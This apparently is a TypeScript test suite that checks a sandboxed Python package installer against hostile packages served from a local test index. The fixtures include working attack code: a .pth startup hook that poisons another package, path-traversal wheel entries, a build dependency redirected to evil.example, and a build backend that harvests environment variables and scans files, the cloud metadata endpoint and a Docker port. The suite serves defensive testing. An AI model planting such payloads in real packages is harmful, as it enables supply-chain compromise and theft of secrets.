// Packages that attack other agents of their team, with the real engine, the real uv and a test package index.
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import { packArchive } from '../docker/archive.ts';
import { labelsFor, mark, ownedBy } from '../docker/labels.ts';
import { teamCache } from '../workshop/package-cache.ts';
import { resolveRequirements, type ResolvedDependencies } from '../workshop/resolve/resolve.ts';
import { runInSandbox } from '../workshop/sandbox.ts';
import type { Sandboxes } from '../workshop/sandboxes.ts';
import { testInstallation } from '../workshop/test-installation.ts';
import { testConfig } from '../../testing/config.ts';
import { requirementLines } from '../../testing/pushes/requirement-lines.ts';
import { removeLeftovers } from '../../testing/engine-leftovers.ts';
import { makeWheel } from '../../testing/servers/make-wheel.ts';
import { startPackageIndex, type PackageIndex } from '../../testing/servers/package-index.ts';
import { ensureDependencyImage, type DependencyImage } from './dependency-image.ts';
import { pruneImages } from './prune-images.ts';

// Runs at each start of its Python, and changes all files that it can reach.
const attack = `
import os
def append(path, text):
    try:
        with open(path, "a") as file:
            file.write(text)
    except OSError:
        pass
append("/opt/venv/ran", "ran\\n")
for root in ("/var/cache/uv", "/opt/venv/lib"):
    append(root + "/ran", "ran\\n")
    for folder, _, files in os.walk(root):
        if folder.endswith("/victim") and "__init__.py" in files:
            append(folder + "/__init__.py", "poisoned = True\\n")
`;
const offered = [
  makeWheel('victim', '1.0', { 'victim/__init__.py': 'poisoned = False\n' }),
  makeWheel('hostile', '1.0', {
    'hostile.pth': 'import hostile_start\n',
    'hostile_start.py': attack,
    'hostile-1.0.data/scripts/hostile-python': '#!python\nimport hostile_start\n',
  }),
  makeWheel('usurper', '1.0', {
    'usurper.py': '',
    // Takes the path of the interpreter of /opt/venv.
    'usurper-1.0.data/scripts/python': '#!/bin/sh\necho ran >> /opt/venv/ran\nexec python3 "$@"\n',
  }),
  makeWheel('smuggler', '1.0', {
    'smuggler.py': '',
    'smuggler-1.0.data/purelib/stowaway-2.0.dist-info/METADATA':
      'Metadata-Version: 2.1\nName: Stow.Away\nVersion: 2.0\n',
  }),
];

// Entries that lead out of the folder of the packages: upwards, absolute, and by the folders that a wheel may name.
const climbing = [
  '../climbed',
  '../../../../../../../../../../../../tmp/climbed',
  '/opt/venv/climbed',
  'climber-1.0.data/data/../../../../../../../climbed',
  'climber-1.0.data/scripts/../../../climbed',
];
offered.push(
  makeWheel('climber', '1.0', {
    'climber.py': '',
    'climber-1.0.data/data/share/not_climbed': '',
    ...Object.fromEntries(climbing.map((path) => [path, 'climbed'])),
  }),
);

/** A backend of a source distribution. `text`: of its module, as an expression of Python. */
function backendOf(name: string, text: string): string {
  return `
import os, zipfile
def build_wheel(folder, config_settings=None, metadata_directory=None):
    file = "${name}-1.0-py3-none-any.whl"
    info = "${name}-1.0.dist-info/"
    with zipfile.ZipFile(os.path.join(folder, file), "w") as wheel:
        wheel.writestr("${name}.py", ${text})
        wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\\nName: ${name}\\nVersion: 1.0\\n")
        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr(info + "RECORD", "")
    return file
`;
}

// The source includes its own backend, which writes the version of its build dependency into the wheel.
const backend = `
import builder
${backendOf('crafted', '"built_with = %r" % builder.version')}`;

// A backend that looks around: what it has of the service's environment, of the files of other projects and of the network.
const canary = 'gantry-canary';
const spying = `
import json, os, socket, urllib.parse, urllib.request
from concurrent.futures import ThreadPoolExecutor
# At once, because each closed place takes its whole timeout.
def those(answers, candidates):
    with ThreadPoolExecutor(len(candidates)) as pool:
        return [one for one, yes in zip(candidates, pool.map(answers, candidates)) if yes]
def opens(address):
    try:
        socket.create_connection(address, 2).close()
        return True
    except OSError:
        return False
def fetches(url):
    try:
        urllib.request.urlopen(url, timeout=5).read()
        return True
    except OSError:
        return False
def texts():
    for root, folders, files in os.walk("/"):
        if root == "/":
            folders[:] = [name for name in folders if name not in ("dev", "proc", "sys")]
        for path in [os.path.join(root, name) for name in files]:
            try:
                if os.path.isfile(path) and os.path.getsize(path) < 100000:
                    with open(path, "rb") as file:
                        yield path, file.read()
            except OSError:
                pass
def look():
    proxy = urllib.parse.urlsplit(os.environ["HTTP_PROXY"]).hostname
    places = [(proxy, 3128), (proxy, OTHER_PORT), (proxy, 2375), ("169.254.169.254", 80), ("8.8.8.8", 53)]
    urls = ["INDEX/victim/", "http://127.0.0.1:OTHER_PORT/", "http://169.254.169.254/", "http://evil.example/"]
    secret = "-".join(["gantry", "canary"]).encode()
    files = [(path, secret in text, b"def texts" in text) for path, text in texts()]
    return {
        "environment": dict(os.environ),
        "files": [path for path, has_secret, _ in files if has_secret],
        "own": sum(is_own for _, _, is_own in files),
        "places": [port for _, port in those(opens, places)],
        "urls": those(fetches, urls),
    }
${backendOf('spy', 'f"seen = {json.dumps(look())!r}"')}`;
const crafted = (name: string, code: string) => ({
  file: `${name}-1.0.tar.gz`,
  bytes: gzipSync(
    packArchive([
      { path: `${name}-1.0/PKG-INFO`, content: `Metadata-Version: 2.1\nName: ${name}\nVersion: 1.0\n` },
      { path: `${name}-1.0/backend.py`, content: code },
      {
        path: `${name}-1.0/pyproject.toml`,
        content: `
[build-system]
requires = ["builder"]
build-backend = "backend"
backend-path = ["."]
[tool.uv.sources]
builder = { url = "https://evil.example/builder-1.0-py3-none-any.whl" }
`,
      },
    ]),
  ),
});
offered.push(
  makeWheel('builder', '1.0', { 'builder.py': 'version = "1.0"\n' }),
  crafted('crafted', backend),
  crafted('broken', 'raise SystemExit("no compiler")\n'),
);

const { engine, open } = testInstallation(testConfig());
const signal = () => AbortSignal.timeout(120_000);
const refusedHosts: string[] = [];
let index: PackageIndex;
let sandboxes: Sandboxes;

beforeAll(async () => {
  index = await startPackageIndex(offered);
  // Fetches uv once from the real index.
  await (await open()).close();
  const ours = { index_url: index.url, extra_index_urls: [], upstream_proxy: undefined };
  sandboxes = await open({ ...ours, source_distributions: 'allow' }, (host) => void refusedHosts.push(host));
}, 180_000);
afterAll(async () => {
  await sandboxes?.close();
  await index?.close();
  await removeLeftovers(engine);
  await pruneImages(engine, new Set(), { older_than_seconds: Infinity, signal: signal() });
}, 60_000);

async function resolve(text: string, log: string[] = []): Promise<ResolvedDependencies> {
  const onLog = (line: string) => void log.push(line);
  return await resolveRequirements(sandboxes, {
    team_id: 'team-1',
    requirements: requirementLines(text),
    platform_requirements: [],
    onLog,
    signal: signal(),
  });
}

async function install(resolved: ResolvedDependencies): Promise<DependencyImage> {
  const about = { team_id: 'team-1', wrapper_lock: '', signal: signal() };
  return await ensureDependencyImage(sandboxes, { ...resolved, ...about });
}

const limits = { memory_bytes: 1e9, cpus: 1, pids: 64, disk_bytes: 1e8, deadline_seconds: 60 };
async function inImage(image: DependencyImage, script: string): Promise<string> {
  const command = ['/bin/sh', '-c', script];
  return (await runInSandbox(engine, { image: image.id, command, limits, signal: signal() })).stdout;
}

const whatRan = 'ls /opt/venv/ran /opt/venv/lib/ran; exit 0';

test('no code of a package runs during its installation, and another agent of the team gets unchanged packages', async () => {
  const poisoned = 'import sys, victim; print(victim.poisoned, "hostile_start" in sys.modules)';
  const attacker = await install(await resolve('victim==1.0\nhostile==1.0\n'));
  expect(await inImage(attacker, whatRan)).toBe('');
  // The attack works in the container of its own agent.
  expect(await inImage(attacker, `/opt/venv/bin/python -c '${poisoned}'`)).toBe('False True\n');

  const other = await install(await resolve('victim==1.0\n'));
  expect(await inImage(other, `/opt/venv/bin/python -c '${poisoned}'`)).toBe('False False\n');
  expect(await inImage(other, 'cat /opt/venv/lib/python3*/site-packages/victim/__init__.py')).toBe(
    'poisoned = False\n',
  );
}, 120_000);

test('a package that would replace the interpreter is not installed', async () => {
  await expect(install(await resolve('usurper==1.0\n'))).rejects.toMatchObject({
    code: 'build_failed',
    fields: { output: expect.stringMatching(/reserved/i) },
  });
}, 120_000);

test('an unlocked package from another package fails the build by name, and leaves no image', async () => {
  await expect(install(await resolve('victim==1.0\nsmuggler==1.0\n'))).rejects.toMatchObject({
    code: 'build_failed',
    detail: 'The installed packages differ from the lock: stow-away 2.0 is installed but not locked',
  });
  expect(await engine.docker.listImages({ filters: ownedBy(engine, 'unpacked') })).toEqual([]);
}, 120_000);

test('a source distribution is named and built when it is locked, and that wheel is installed', async () => {
  const log: string[] = [];
  const resolved = await resolve('crafted==1.0\n', log);
  expect(resolved.built_from_source).toEqual(['crafted']);
  expect(log).toEqual(
    expect.arrayContaining([
      'The package index has no wheel of crafted; resolving again with source distributions',
      'Building crafted==1.0 from source: the package index has no fitting wheel',
    ]),
  );
  // The package's settings for uv have no effect.
  expect(refusedHosts).toEqual([]);
  // Its build dependency changes after the lock and the approval.
  offered.push(makeWheel('builder', '2.0', { 'builder.py': 'version = "2.0"\n' }));
  index.asked.length = 0;
  const image = await install(resolved);
  expect(await inImage(image, '/opt/venv/bin/python -c "import crafted; print(crafted.built_with)"')).toBe('1.0\n');
  expect(index.asked.filter((path) => path.includes('builder'))).toEqual([]);

  const [file = ''] = resolved.wheels.keys();
  const other = new Map([[file, makeWheel('crafted', '1.0', { 'crafted.py': 'built_with = "another"\n' }).bytes]]);
  const changed = { ...resolved, wheels: other, python_version: 'another' };
  await expect(install(changed)).rejects.toMatchObject({
    code: 'build_failed',
    fields: { output: expect.stringMatching(/hash/i) },
  });
}, 120_000);

test('a build backend that spies finds no secret, no file of another project, and no network but the index', async () => {
  const other = createServer((_, answer) => answer.end('another service of this machine')).listen(0, '0.0.0.0');
  await once(other, 'listening');
  const { port } = other.address() as AddressInfo; // it listens on a port
  offered.push(
    crafted('spy', spying.replaceAll('OTHER_PORT', String(port)).replaceAll('INDEX', index.url)),
    makeWheel('private', '1.0', { 'private.py': `content = "${canary}"\n` }),
  );
  vi.stubEnv('SECRET_KEY', canary);
  try {
    const of = { team_id: 'team-2', requirements: requirementLines('private==1.0\n'), platform_requirements: [] };
    await install(await resolveRequirements(sandboxes, { ...of, signal: signal() }));
    const image = await install(await resolve('spy==1.0\n'));
    const seen = JSON.parse(await inImage(image, '/opt/venv/bin/python -c "import spy; print(spy.seen)"')) as Spied;
    // It can look: it finds its own source, its proxy and the index.
    expect(seen.own).toBeGreaterThan(0);
    expect(seen).toMatchObject({ files: [], places: [3128], urls: [`${index.url}/victim/`] });
    expect(JSON.stringify(seen.environment)).not.toContain(canary);
  } finally {
    vi.unstubAllEnvs();
    other.close();
  }
}, 120_000);

interface Spied {
  environment: Record<string, string>;
  /** Those with the canary, and the number of those with the source of the spy. */
  files: string[];
  own: number;
  /** Open ports, and URLs that answer. */
  places: number[];
  urls: string[];
}

test('a source distribution that cannot be built is refused by name', async () => {
  await expect(resolve('broken==1.0\n')).rejects.toMatchObject({
    code: 'build_failed',
    detail: 'broken==1.0 has no wheel on the package index and cannot be built from source',
  });
}, 120_000);

test('a wheel that the index exchanges after the lock is not installed, and the refusal names it', async () => {
  const before = makeWheel('exchanged', '1.0', { 'exchanged.py': 'content = "of the lock"\n' });
  const at = offered.push(before) - 1;
  const resolved = await resolve('exchanged==1.0\n');
  const after = makeWheel('exchanged', '1.0', { 'exchanged.py': 'content = "another"\n' });
  offered[at] = after;
  await expect(install(resolved)).rejects.toMatchObject({
    code: 'build_failed',
    fields: { output: expect.stringMatching(/exchanged[\s\S]*hash|hash[\s\S]*exchanged/i) },
  });
  offered[at] = before;
  const image = await install(resolved);
  expect(await inImage(image, '/opt/venv/bin/python -c "import exchanged; print(exchanged.content)"')).toBe(
    'of the lock\n',
  );
}, 120_000);

test('entries of a wheel that lead out of its folders are written nowhere, neither in the image nor in the cache of the team', async () => {
  const image = await install(await resolve('climber==1.0\n'));
  const find = `find / -xdev -name '*climbed' 2> /tmp/errors; find /var/cache/uv -name '*climbed' -not -path '*/climber-1.0.data/*'`;
  expect(await inImage(image, find)).toBe('/opt/venv/share/not_climbed\n');
  const cache = await teamCache(sandboxes, 'team-1', signal());
  const command = ['/bin/sh', '-c', `${find}; find /var/cache/uv -name climber.py`];
  expect((await sandboxes.run({ ...cache, command, signal: signal() })).stdout).toMatch(/^\S+\/climber\.py\n$/);
}, 120_000);

test('a cache that package code could change is removed, and never used again', async () => {
  const volumes = async (purpose: string) =>
    (await engine.docker.listVolumes({ filters: JSON.stringify(ownedBy(engine, purpose)) })).Volumes ?? [];
  expect(await volumes('wheels')).not.toEqual([]);
  await engine.docker.createVolume({ Name: `svc-cache-${mark(engine)}-0`, Labels: labelsFor(engine, 'cache') });
  expect(await volumes('cache')).toHaveLength(1);
  await (await open()).close();
  expect(await volumes('cache')).toEqual([]);
  expect(await volumes('wheels')).not.toEqual([]);
}, 120_000);
